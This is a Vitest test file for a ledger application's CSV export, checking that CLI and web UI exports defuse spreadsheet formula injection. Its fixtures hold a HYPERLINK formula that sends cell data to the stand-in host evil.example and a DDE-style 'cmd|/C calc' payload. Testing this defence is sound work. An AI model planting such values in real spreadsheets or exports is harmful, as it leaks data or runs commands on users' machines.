import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { toCsv } from '../../web/src/lib/csv-text.js';
import { entry, ledgerAsync, seedBooks, tempFolder, withLedger } from '../helpers/cli.js';

const folder = tempFolder('export-formulas');
afterAll(() => folder.remove());
const db = join(folder.dir, 'books.db');

const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")';

beforeAll(async () => {
  const books = await seedBooks(db);
  await withLedger(db, async (service) => {
    const admin = await service.authenticate(books.adminKey);
    const account = await service.createAccount(admin, { account_number: '6900', name: '@SUM(1+1)*cmd|/C calc!A0', currency_id: books.usd.id,
      account_type: 'expense', normal_balance: 'debit' });
    await service.postJournalEntry(admin, { ...entry(account.id, books.cash.id, '5', '2026-03-01', FORMULA), reference: '+1-1' });
  });
});

describe('CSV exports and spreadsheet formulas', () => {
  it('ledger export --format csv neutralises text cells that start a formula, and keeps amounts numbers', async () => {
    const run = await ledgerAsync(['export', '--format', 'csv'], { db });
    expect(run.status).toBe(0);
    const rows = parse(run.stdout, { columns: true }) as Record<string, string>[];
    const debit = rows.find((row) => row.debit_amount === '5')!;
    expect(debit.description).toBe(`'${FORMULA}`);
    expect(debit.reference).toBe("'+1-1");
    expect(debit.account_name).toBe("'@SUM(1+1)*cmd|/C calc!A0");
    const credit = rows.find((row) => row.credit_amount === '5')!;
    expect(credit.display_credit).toBe('0.05');
    for (const row of rows) {
      for (const [column, cell] of Object.entries(row)) expect({ column, formula: /^[=+@\t\r]/.test(cell) }).toEqual({ column, formula: false });
    }
  });

  it('the web UI\'s CSV neutralises text cells and keeps negative amounts as numbers', () => {
    const text = toCsv(['account_name', 'net_balance'], [[FORMULA, '-0.05'], ['-1+1', '-5'], ['\t=1', '12.50']]);
    expect(parse(text)).toEqual([['account_name', 'net_balance'], [`'${FORMULA}`, '-0.05'], ["'-1+1", '-5'], ["'\t=1", '12.50']]);
  });
});
